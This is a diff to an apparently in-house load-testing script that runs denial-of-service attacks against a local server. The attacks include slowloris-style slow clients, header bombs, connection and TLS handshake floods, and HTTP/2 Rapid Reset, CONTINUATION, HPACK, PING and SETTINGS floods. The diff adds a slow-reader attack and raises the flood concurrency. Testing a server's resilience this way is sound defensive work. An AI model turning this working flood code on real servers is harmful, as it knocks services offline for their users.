@@ -1,9 +1,10 @@
 """Clients that mean harm, one kind to a function. Run by http_attacks.py, each in a process of its own:
 
-    python scripts/attackers.py NAME --port P --host H --big HOST --token T --seconds N [--connections N]
+    python scripts/attackers.py NAME --port P --host H --big HOST --token T --seconds N [--connections N] [--maker 0/4]
 
-They come from many addresses of the loopback (127.1.x.y), so that no limit for one address ends them early. Each keeps at it until
-its time is over, coming back whenever it was shown the door. The last line printed is JSON: how many connections, how many refused.
+They come from many addresses of the loopback (127.x.y.z), so that no limit for one address ends them early. Each keeps at it until
+its time is over, coming back whenever it was shown the door. --maker i/n: this process is one of n that share the connections. The
+last line printed is JSON: how many connections, how many at once at most, how many were refused, how many streams or frames.
 """
 
 import argparse
@@ -20,6 +21,8 @@ import time
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 HEADERS, RESET, SETTINGS, PING, CONTINUATION = 1, 3, 4, 6, 9
 END_STREAM, END_HEADERS = 1, 4
+#: Connections at the same time of each flood over HTTP/2.
+FLOODS = 100
 
 
 def frame(kind, flags, stream, payload=b""):
@@ -47,7 +50,9 @@ class Attack:
         self.options = options
         self.end = time.monotonic() + options.seconds
         self.counts = collections.Counter()
-        self.addresses = (f"127.1.{n // 250 % 250}.{n % 250 + 1}" for n in itertools.count())
+        self.maker, self.makers = map(int, options.maker.split("/"))
+        self.addresses = (f"127.{self.maker + 1}.{n // 250 % 250}.{n % 250 + 1}" for n in itertools.count())
+        self.open = 0
         self.context = ssl.create_default_context()
         self.context.check_hostname = False
         self.context.verify_mode = ssl.CERT_NONE
@@ -75,9 +80,13 @@ class Attack:
 
     async def many(self, one, connections):
         """So many at once, begun little by little; who is thrown out comes again."""
+        connections = max(1, min(connections, self.options.connections or connections) // self.makers)
+
         async def again(number):
             await asyncio.sleep(number / connections * min(self.options.seconds / 2, connections / 500))
             while self.goes_on:
+                self.open += 1
+                self.counts["at_once"] = max(self.counts["at_once"], self.open)
                 try:
                     await asyncio.wait_for(one(), max(0.1, self.end - time.monotonic()))
                 except (OSError, EOFError, ssl.SSLError, asyncio.IncompleteReadError):
@@ -85,6 +94,8 @@ class Attack:
                     await asyncio.sleep(0.05)
                 except asyncio.TimeoutError:
                     return
+                finally:
+                    self.open -= 1
         await asyncio.gather(*(again(number) for number in range(connections)))
 
     # HTTP/1.1
@@ -125,7 +136,21 @@ class Attack:
                 await asyncio.sleep(max(0, self.end - time.monotonic()))
             finally:
                 writer.transport.abort()
-        await self.many(one, self.options.connections or 10_000)
+        await self.many(one, 10_000)
+
+    async def slow_strangers(self):
+        """Whoever asks for little, and reads none of it, may be nobody: pages and files of the console, many on one connection."""
+        request = f"GET /assets/bedel.css HTTP/1.1\r\nHost: {self.options.host}\r\n\r\n".encode() * 40
+
+        async def one():
+            reader, writer = await self.connect(self.context, buffer=4096)
+            try:
+                writer.transport.pause_reading()
+                writer.write(request)
+                await asyncio.sleep(max(0, self.end - time.monotonic()))
+            finally:
+                writer.transport.abort()
+        await self.many(one, 10_000)
 
     async def header_bomb(self):
         lines = "".join(f"X-{n}: {'a' * 100}\r\n" for n in range(5000)).encode()
@@ -137,7 +162,7 @@ class Attack:
                 await reader.read(1)
             finally:
                 writer.transport.abort()
-        await self.many(one, 8)
+        await self.many(one, 64)
 
     # Connections
 
@@ -145,7 +170,7 @@ class Attack:
         async def one():
             _, writer = await self.connect(None)
             writer.transport.abort()
-        await self.many(one, 8)
+        await self.many(one, 16)
 
     async def slow_handshakes(self):
         hello = bytes.fromhex("1603010200010001fc0303") + bytes(40)
@@ -165,7 +190,7 @@ class Attack:
         async def one():
             _, writer = await self.connect(self.context)
             writer.transport.abort()
-        await self.many(one, 4)
+        await self.many(one, 16)
 
     # HTTP/2
 
@@ -185,29 +210,36 @@ class Attack:
                 writer.transport.abort()
         await self.many(one, connections)
 
-    async def flood(self, writer, pieces):
+    async def flood(self, writer, pieces, count=1):
+        """- count: of frames or streams in one piece, for the report."""
         for piece in pieces:
             if not self.goes_on:
                 return
+            # What was thrown out is not noticed by writing.
+            if writer.transport.is_closing():
+                raise EOFError
             writer.write(piece)
+            self.counts["pieces"] += count
             await writer.drain()
+            await asyncio.sleep(0)
 
     async def rapid_reset(self):
         block = self.block()
 
         async def attack(_, writer):
-            streams = range(1, 1 << 20, 2)
+            streams = range(1, 1 << 20, 200)
             await self.flood(writer, (
-                frame(HEADERS, END_STREAM | END_HEADERS, n, block) + frame(RESET, 0, n, struct.pack(">I", 8))
-                for n in streams))
-        await self.with_h2(attack, 8)
+                b"".join(frame(HEADERS, END_STREAM | END_HEADERS, n, block) + frame(RESET, 0, n, struct.pack(">I", 8))
+                         for n in range(first, first + 200, 2))
+                for first in streams), 100)
+        await self.with_h2(attack, FLOODS)
 
     async def continuation_flood(self):
         async def attack(_, writer):
             writer.write(frame(HEADERS, END_STREAM, 1, self.block()))
             await self.flood(writer, (
                 frame(CONTINUATION, 0, 1, literal(f"x-{n}", "a" * 8000)) for n in range(1 << 20)))
-        await self.with_h2(attack, 8)
+        await self.with_h2(attack, FLOODS)
 
     async def hpack_bomb(self):
         """One large field is remembered, and then meant again and again by single bytes."""
@@ -215,27 +247,28 @@ class Attack:
             writer.write(frame(HEADERS, END_STREAM | END_HEADERS, 1, self.block() + literal("x", "a" * 3900, indexed=True)))
             await self.flood(writer, (
                 frame(HEADERS, END_STREAM | END_HEADERS, n, self.block() + b"\xbe" * 16000) for n in range(3, 1 << 16, 2)))
-        await self.with_h2(attack, 8)
+        await self.with_h2(attack, FLOODS)
 
     async def window_zero(self):
         async def attack(_, writer):
             block = self.block("/assets/bedel.css")
             writer.write(b"".join(frame(HEADERS, END_STREAM | END_HEADERS, n, block) for n in range(1, 199, 2)))
-        await self.with_h2(attack, 200, settings=struct.pack(">HI", 4, 0))
+            self.counts["pieces"] += 99
+        await self.with_h2(attack, 1000, settings=struct.pack(">HI", 4, 0))
 
     async def ping_flood(self):
         async def attack(_, writer):
-            await self.flood(writer, (frame(PING, 0, 0, bytes(8)) * 100 for _ in range(1 << 16)))
-        await self.with_h2(attack, 8)
+            await self.flood(writer, (frame(PING, 0, 0, bytes(8)) * 100 for _ in range(1 << 16)), 100)
+        await self.with_h2(attack, FLOODS)
 
     async def settings_flood(self):
         async def attack(_, writer):
-            await self.flood(writer, (frame(SETTINGS, 0, 0) * 100 for _ in range(1 << 16)))
-        await self.with_h2(attack, 8)
+            await self.flood(writer, (frame(SETTINGS, 0, 0) * 100 for _ in range(1 << 16)), 100)
+        await self.with_h2(attack, FLOODS)
 
 
 #: In the order of the report.
-NAMES = ["slow_headers", "slow_bodies", "slow_readers", "header_bomb", "connection_flood", "slow_handshakes",
+NAMES = ["slow_headers", "slow_bodies", "slow_readers", "slow_strangers", "header_bomb", "connection_flood", "slow_handshakes",
          "tls_handshakes", "rapid_reset", "continuation_flood", "hpack_bomb", "window_zero", "ping_flood", "settings_flood"]
 
 
@@ -248,6 +281,7 @@ def main():
     parser.add_argument("--token", required=True)
     parser.add_argument("--seconds", type=float, required=True)
     parser.add_argument("--connections", type=int)
+    parser.add_argument("--maker", default="0/1")
     options = parser.parse_args()
     most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
     resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
